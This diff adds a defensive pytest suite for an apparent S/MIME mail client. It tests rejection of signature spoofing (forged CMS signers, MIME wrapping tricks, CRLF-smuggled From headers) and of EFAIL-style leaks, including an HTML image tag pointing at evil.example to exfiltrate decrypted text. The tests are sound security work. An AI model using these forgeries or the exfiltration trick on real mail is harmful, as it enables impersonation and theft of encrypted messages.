@@ -1,0 +1,413 @@
+"""Signatures that lie: no mail may be said to be signed by somebody who did not write what is shown.
+
+The kinds are those of "Johnny, you are fired!" (USENIX Security 2019): CMS, MIME structure, identity.
+Mallory owns an honest certificate for mallory@evil.example and whatever Alice ever signed.
+"""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+from asn1crypto import cms, core
+from cryptography import x509
+from hypothesis import given
+from hypothesis import strategies as st
+
+from tomail.message.parse import parse
+from tomail.message.smime.entity import split, wrapped_in
+from tomail.message.smime.keys import OwnKey
+from tomail.message.smime.opening import open_part, open_protected
+from tomail.message.smime.sealing import Recipient, encrypt, protect, sign
+from tomail.message.smime.signing import signature
+from tomail.model.smime import (
+    EncryptionState,
+    LayerKind,
+    Opened,
+    SignatureNote,
+    SignatureReason,
+    SignatureState,
+)
+
+from .people import NOW, People
+
+ALICE = b"From: alice@praxis.example\r\nTo: bob@labor.example\r\nSubject: Termin\r\n"
+MALLORY = b"From: mallory@evil.example\r\nTo: bob@labor.example\r\nSubject: Termin\r\n"
+TEXT = b"Content-Type: text/plain\r\n\r\n"
+GENUINE = TEXT + b"Bitte kommen Sie am Montag.\r\n"
+FORGED = TEXT + b"Bitte ueberweisen Sie 5000 Euro.\r\n"
+
+
+def opened(people: People, raw: bytes) -> Opened:
+    return open_protected(raw, [people.bob], people.verifier, received=NOW)
+
+
+def signed(people: People, entity: bytes = GENUINE, key: OwnKey | None = None) -> bytes:
+    """A multipart/signed entity, by Alice if nobody else is named."""
+    return sign(entity, key or people.alice, NOW)
+
+
+def opaque(data: cms.SignedData) -> bytes:
+    """An application/pkcs7-mime entity of `data`."""
+    made = cms.ContentInfo({"content_type": "signed_data", "content": data}).dump()
+    head = b"Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\n"
+    return head + b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(made)
+
+
+def signed_data(key: OwnKey, content: bytes, shown: bytes | None = None) -> cms.SignedData:
+    """What `key` signs of `content`, with `shown` embedded (None: nothing)."""
+    data = cms.ContentInfo.load(signature(content, key, NOW))["content"].copy()
+    if shown is not None:
+        data["encap_content_info"] = cms.ContentInfo(
+            {"content_type": "data", "content": core.OctetString(shown)}
+        )
+    return data
+
+
+def parts(raw: bytes) -> tuple[bytes, bytes, bytes]:
+    """Boundary, content and signature entity of a multipart/signed entity."""
+    lines, body = split(raw)
+    boundary = lines[0].split(b'boundary="')[1].split(b'"')[0]
+    _, content, proof, _ = body.split(b"--" + boundary)
+    return boundary, content[2:-2], proof[2:-2]
+
+
+def mixed(*entities: bytes) -> bytes:
+    inner = b"".join(b"--mixed\r\n" + each + b"\r\n" for each in entities)
+    return b"Content-Type: multipart/mixed; boundary=mixed\r\n\r\n" + inner + b"--mixed--\r\n"
+
+
+# --- CMS
+
+
+def test_an_embedded_content_beside_a_detached_one(people: People) -> None:
+    """The signature is on what is embedded, the eye is on what stands outside."""
+    boundary, _, proof = parts(signed(people))
+    data = cms.ContentInfo(
+        {"content_type": "signed_data", "content": signed_data(people.alice, GENUINE, GENUINE)}
+    )
+    head = proof.split(b"\r\n\r\n")[0]
+    entity = (
+        signed(people).split(b"\r\n\r\n")[0]
+        + b"\r\n\r\n"
+        + b"\r\n".join(
+            [
+                b"--" + boundary,
+                FORGED,
+                b"--" + boundary,
+                head,
+                b"",
+                base64.encodebytes(data.dump()),
+                b"--" + boundary + b"--",
+            ]
+        )
+    )
+    verdict = opened(people, ALICE + entity)
+    assert verdict.signature.reasons == (SignatureReason.CONTENT_MISMATCH,)
+
+
+def test_no_signer(people: People) -> None:
+    data = signed_data(people.alice, FORGED, FORGED)
+    data["signer_infos"] = cms.SignerInfos([])
+    verdict = opened(people, ALICE + opaque(data))
+    assert verdict.signature.state is SignatureState.NONE
+    assert verdict.signature.reasons == (SignatureReason.NO_SIGNER,)
+
+
+def test_certificates_only(people: People) -> None:
+    data = signed_data(people.alice, b"")
+    data["signer_infos"] = cms.SignerInfos([])
+    raw = ALICE + opaque(data).replace(b"signed-data", b"certs-only")
+    assert opened(people, raw).signature.state is SignatureState.NONE
+
+
+@pytest.mark.parametrize("swap", [False, True])
+def test_two_signers_of_whom_one_is_right(people: People, swap: bool) -> None:
+    data = signed_data(people.alice, FORGED, FORGED)
+    theirs = signed_data(people.mallory, FORGED, FORGED)
+    infos = [data["signer_infos"][0], theirs["signer_infos"][0]]
+    data["signer_infos"] = cms.SignerInfos(infos[::-1] if swap else infos)
+    verdict = opened(people, ALICE + opaque(data))
+    assert verdict.signature.reasons == (SignatureReason.SEVERAL_SIGNERS,)
+
+
+def test_the_certificate_of_another(people: People) -> None:
+    """Mallory signs, and names Alice's certificate."""
+    data = signed_data(people.mallory, FORGED, FORGED)
+    alice = signed_data(people.alice, FORGED)
+    data["certificates"] = alice["certificates"]
+    data["signer_infos"][0]["sid"] = alice["signer_infos"][0]["sid"]
+    verdict = opened(people, ALICE + opaque(data))
+    assert verdict.signature.state is SignatureState.INVALID
+    assert verdict.signature.reasons == (SignatureReason.ATTRIBUTES,)
+
+
+def test_a_changed_content(people: People) -> None:
+    verdict = opened(people, ALICE + opaque(signed_data(people.alice, GENUINE, FORGED)))
+    assert verdict.signature.reasons == (SignatureReason.CHANGED,)
+
+
+def test_a_digest_of_the_new_content_in_attributes_of_the_old(people: People) -> None:
+    data = signed_data(people.alice, GENUINE, FORGED)
+    other = signed_data(people.mallory, FORGED)["signer_infos"][0]["signed_attrs"]
+    kept = [each for each in data["signer_infos"][0]["signed_attrs"] if "certificate" in each["type"].native]
+    rest = [each for each in other if "certificate" not in each["type"].native]
+    data["signer_infos"][0]["signed_attrs"] = cms.CMSAttributes([*kept, *rest])
+    verdict = opened(people, ALICE + opaque(data))
+    assert verdict.signature.reasons == (SignatureReason.BROKEN,)
+
+
+def test_two_digests_of_which_one_is_right(people: People) -> None:
+    data = signed_data(people.alice, GENUINE, FORGED)
+    forged = signed_data(people.mallory, FORGED)["signer_infos"][0]["signed_attrs"]
+    digest = [each for each in forged if each["type"].native == "message_digest"]
+    kept = list(data["signer_infos"][0]["signed_attrs"])
+    data["signer_infos"][0]["signed_attrs"] = cms.CMSAttributes([*kept, *digest])
+    assert opened(people, ALICE + opaque(data)).signature.reasons == (SignatureReason.ATTRIBUTES,)
+
+
+def test_the_signed_attributes_as_a_content_of_their_own(people: People) -> None:
+    """What Alice's signature is made over is itself a content that it is valid for, without attributes."""
+    data = signed_data(people.alice, GENUINE)
+    attributes = data["signer_infos"][0]["signed_attrs"].untag().dump()
+    data["encap_content_info"] = cms.ContentInfo(
+        {"content_type": "data", "content": core.OctetString(attributes)}
+    )
+    info = data["signer_infos"][0]
+    data["signer_infos"] = cms.SignerInfos(
+        [
+            cms.SignerInfo(
+                {
+                    n: info[n]
+                    for n in ("version", "sid", "digest_algorithm", "signature_algorithm", "signature")
+                }
+            )
+        ]
+    )
+    assert opened(people, ALICE + opaque(data)).signature.reasons == (SignatureReason.ATTRIBUTES,)
+
+
+# --- MIME structure
+
+
+def test_a_signed_part_below_a_text_that_is_not(people: People) -> None:
+    verdict = opened(people, ALICE + mixed(FORGED, signed(people)))
+    assert verdict.signature.state is SignatureState.NONE
+    assert verdict.layers == ()
+    (part,) = verdict.parts
+    assert (part.kind, part.part, part.signature.state) == (LayerKind.SIGNED, 2, SignatureState.VALID)
+    alone = open_part(verdict.raw, 2, [], people.verifier, received=NOW)
+    assert parse(alone.raw).text.strip() == "Bitte kommen Sie am Montag."
+
+
+@pytest.mark.parametrize("kind", ["alternative", "related", "mixed", "digest", "report", "parallel"])
+def test_no_other_multipart_is_taken_for_a_wrapping(people: People, kind: str) -> None:
+    raw = ALICE + mixed(signed(people), FORGED).replace(b"multipart/mixed", b"multipart/" + kind.encode())
+    assert opened(people, raw).signature.state is SignatureState.NONE
+
+
+@pytest.mark.parametrize("at", ["first", "between", "last"])
+def test_a_third_part(people: People, at: str) -> None:
+    boundary, content, proof = parts(signed(people))
+    order = {
+        "first": [FORGED, content, proof],
+        "between": [content, FORGED, proof],
+        "last": [content, proof, FORGED],
+    }[at]
+    body = b"".join(b"--" + boundary + b"\r\n" + each + b"\r\n" for each in order)
+    head = signed(people).split(b"\r\n\r\n")[0] + b"\r\n\r\n"
+    verdict = opened(people, ALICE + head + body + b"--" + boundary + b"--\r\n")
+    assert verdict.signature.state is SignatureState.INVALID
+
+
+def test_preamble_and_epilogue_are_not_shown(people: People) -> None:
+    head, body = signed(people).split(b"\r\n\r\n", 1)
+    raw = ALICE + head + b"\r\n\r\n" + b"5000 Euro\r\n" + body + b"5000 Euro\r\n"
+    verdict = opened(people, raw)
+    assert verdict.signature.state is SignatureState.VALID
+    assert "5000" not in parse(verdict.raw).text
+
+
+def test_a_signature_of_another_mail(people: People) -> None:
+    boundary, _, proof = parts(signed(people))
+    head = signed(people).split(b"\r\n\r\n")[0]
+    body = b"\r\n".join([b"--" + boundary, FORGED, b"--" + boundary, proof, b"--" + boundary + b"--", b""])
+    assert opened(people, ALICE + head + b"\r\n\r\n" + body).signature.reasons == (SignatureReason.CHANGED,)
+
+
+def test_a_forwarded_signed_mail_is_not_the_senders(people: People) -> None:
+    whole = ALICE + signed(people)
+    raw = MALLORY + mixed(FORGED, b"Content-Type: message/rfc822\r\n\r\n" + whole)
+    verdict = opened(people, raw)
+    assert (verdict.layers, verdict.parts) == ((), ())
+
+
+def test_a_signed_ciphertext_says_nothing_of_the_writer(people: People) -> None:
+    """Mallory signs what Alice encrypted for Bob, and could not read."""
+    secret = encrypt(GENUINE, [Recipient(people.bob.certificate)])
+    verdict = opened(people, MALLORY + sign(secret, people.mallory, NOW))
+    assert verdict.encryption.state is EncryptionState.OPENED
+    assert verdict.signature.reasons == (SignatureReason.OUTSIDE_ENCRYPTION,)
+
+
+def test_the_header_of_the_inside_adds_no_sender(people: People) -> None:
+    """A From inside the signed entity is neither shown beside the outer one nor in its place."""
+    inside = b"From: boss@praxis.example\r\nSubject: Chef\r\n" + FORGED
+    verdict = opened(people, MALLORY + sign(inside, people.mallory, NOW))
+    shown = parse(verdict.raw)
+    assert [each.address for each in shown.sender] == ["mallory@evil.example"]
+    assert shown.subject == "Termin"
+
+
+# --- identity
+
+
+@pytest.mark.parametrize(
+    "sender",
+    [
+        b"alice@praxis.example",
+        b'"alice@praxis.example" <alice@praxis.example.evil.example>',
+        b"alice@praxis.example, mallory@evil.example",
+        b"mallory@evil.example, alice@praxis.example",
+        b"mallory@evil.example\r\nFrom: alice@praxis.example",
+        b"alice@praxis.example\r\nFrom: mallory@evil.example",
+        b"alice@praxis.example <mallory@evil.example@praxis.example>",
+        b"Praxis: mallory@evil.example, alice@praxis.example;",
+        b"alice@praxis.example\r\nSender: mallory@evil.example",
+        b"alice@praxis.example\r\nReply-To: mallory@evil.example",
+        b"<alice@praxis.example> (mallory@evil.example)",
+        b"=?utf-8?q?mallory=40evil=2Eexample?= <alice@praxis.example>",
+        b'"mallory@evil.example" <alice@praxis.example>',
+        b"alice@praxis.example\0mallory@evil.example",
+        b"mallory@evil.example.praxis.example",
+        b"xmallory@evil.example",
+        b"",
+    ],
+)
+def test_a_valid_signature_of_mallory_is_no_signature_of_another(people: People, sender: bytes) -> None:
+    raw = b"From: " + sender + b"\r\nSubject: x\r\n" + signed(people, FORGED, people.mallory)
+    verdict = opened(people, raw)
+    assert verdict.signature.state is SignatureState.UNCONFIRMED
+    assert set(verdict.signature.reasons) & {
+        SignatureReason.ADDRESS_MISMATCH,
+        SignatureReason.SEVERAL_SENDERS,
+        SignatureReason.NO_SENDER,
+    }
+
+
+def test_only_mallorys_own_address_is_confirmed(people: People) -> None:
+    for sender in (b"mallory@evil.example", b"Alice <MALLORY@Evil.Example>"):
+        raw = b"From: " + sender + b"\r\nSubject: x\r\n" + signed(people, FORGED, people.mallory)
+        assert opened(people, raw).signature.state is SignatureState.VALID
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "alice@praxis.example mallory@evil.example",
+        "alice@praxis.example\nmallory@evil.example",
+        "<alice@praxis.example>",
+        "alice@praxis.example,mallory@evil.example",
+        "alice@praxis.example\u200b",
+    ],
+)
+def test_a_certificate_with_a_strange_address_is_nobodys(people: People, address: str) -> None:
+    """Some authority let Mallory have it."""
+    strange = people.authority.issue(name="Alice", purposes=None, subject_address=address)
+    raw = ALICE + signed(people, FORGED, strange)
+    assert opened(people, raw).signature.reasons == (SignatureReason.ADDRESS_MISMATCH,)
+
+
+def test_the_name_of_a_certificate_is_no_address(people: People) -> None:
+    named = people.authority.issue("mallory@evil.example", name="alice@praxis.example")
+    assert opened(people, ALICE + signed(people, FORGED, named)).signature.reasons == (
+        SignatureReason.ADDRESS_MISMATCH,
+    )
+
+
+def test_the_subjects_address_counts_only_where_no_other_is(people: People) -> None:
+    both = people.authority.issue("mallory@evil.example", subject_address="alice@praxis.example")
+    alone = people.authority.issue(subject_address="alice@praxis.example", name="Alice")
+    assert opened(people, ALICE + signed(people, FORGED, both)).signature.state is SignatureState.UNCONFIRMED
+    assert opened(people, ALICE + signed(people, GENUINE, alone)).signature.state is SignatureState.VALID
+
+
+def test_an_address_in_other_letters(people: People) -> None:
+    """SmtpUTF8Mailbox (RFC 9598) and domains as A-labels."""
+    value = core.UTF8String("jürg@prüfung.example").dump()
+    other = x509.OtherName(x509.ObjectIdentifier("1.3.6.1.5.5.7.8.9"), value)
+    juerg = people.authority.issue(name="Jürg", extra=[other])
+    raw = "From: jürg@xn--prfung-4ya.example\r\nSubject: x\r\n".encode() + signed(people, GENUINE, juerg)
+    assert opened(people, raw).signature.state is SignatureState.VALID
+
+
+# --- protected header
+
+
+def test_another_subject_outside_is_said(people: People) -> None:
+    raw = protect(ALICE + GENUINE, signer=people.alice, moment=NOW)
+    verdict = opened(people, raw.replace(b"Subject: Termin", b"Subject: 5000 Euro", 1))
+    assert SignatureNote.SUBJECT_DIFFERS in verdict.signature.notes
+    assert parse(verdict.raw).subject == "Termin"
+
+
+def test_another_sender_inside_is_said(people: People) -> None:
+    raw = protect(MALLORY + FORGED, signer=people.alice, moment=NOW)
+    verdict = opened(people, raw.replace(b"mallory@evil.example", b"alice@praxis.example", 1))
+    assert verdict.signature.reasons == (SignatureReason.HEADERS_DIFFER,)
+
+
+def test_a_subject_that_nobody_signed_is_said(people: People) -> None:
+    assert SignatureNote.SUBJECT_UNSIGNED in opened(people, ALICE + signed(people)).signature.notes
+
+
+# --- EFAIL and its kin
+
+
+def test_an_encrypted_part_beside_a_picture_stays_closed(people: People) -> None:
+    secret = encrypt(GENUINE, [Recipient(people.bob.certificate)])
+    html = b'Content-Type: text/html\r\n\r\n<img src="https://evil.example/'
+    verdict = opened(people, MALLORY + mixed(html, secret, b'Content-Type: text/html\r\n\r\n">'))
+    assert verdict.partly_encrypted
+    assert not verdict.remote_allowed
+    assert [layer.encryption.state for layer in verdict.parts] == [EncryptionState.NOT_TRIED]
+    assert b"Montag" not in verdict.raw
+    on_demand = open_part(verdict.raw, verdict.parts[0].part or 0, [people.bob], people.verifier)
+    assert "Montag" in parse(on_demand.raw).text
+    assert not on_demand.remote_allowed
+
+
+def test_a_lone_encrypted_part_in_a_container_stays_closed(people: People) -> None:
+    secret = encrypt(GENUINE, [Recipient(people.bob.certificate)])
+    verdict = opened(people, MALLORY + mixed(secret))
+    assert verdict.layers == ()
+    assert verdict.partly_encrypted
+
+
+def test_an_encrypted_part_inside_a_decrypted_mail_stays_closed(people: People) -> None:
+    secret = encrypt(GENUINE, [Recipient(people.bob.certificate)])
+    verdict = opened(people, MALLORY + encrypt(mixed(FORGED, secret), [Recipient(people.bob.certificate)]))
+    assert verdict.encryption.state is EncryptionState.OPENED
+    assert verdict.partly_encrypted
+    assert b"Montag" not in verdict.raw
+
+
+@given(st.integers(0, 10_000), st.integers(1, 255))
+def test_every_broken_ciphertext_looks_the_same(people: People, at: int, flip: int) -> None:
+    """Padding, wrapped key, tag: one state, one form."""
+    entity = encrypt(GENUINE, [Recipient(people.bob.certificate, ("aes256_gcm",))])
+    head, body = entity.split(b"\r\n\r\n", 1)
+    data = bytearray(base64.b64decode(body))
+    tail = min(len(data) - 60, 300)  # the wrapped key, the nonce, the content, the tag
+    data[-1 - at % tail] ^= flip
+    raw = MALLORY + head + b"\r\n\r\n" + base64.encodebytes(bytes(data))
+    verdict = opened(people, raw)
+    assert verdict.encryption.state is not EncryptionState.OPENED
+    assert verdict.raw == raw
+
+
+def test_the_outer_header_is_kept_and_the_inner_is_not() -> None:
+    inside = b"Subject: b\r\nContent-Type: text/html\r\n\r\nx"
+    assert wrapped_in(b"Subject: a\r\nContent-Type: text/plain\r\n\r\ny", inside) == (
+        b"Subject: a\r\nContent-Type: text/html\r\n\r\nx"
+    )
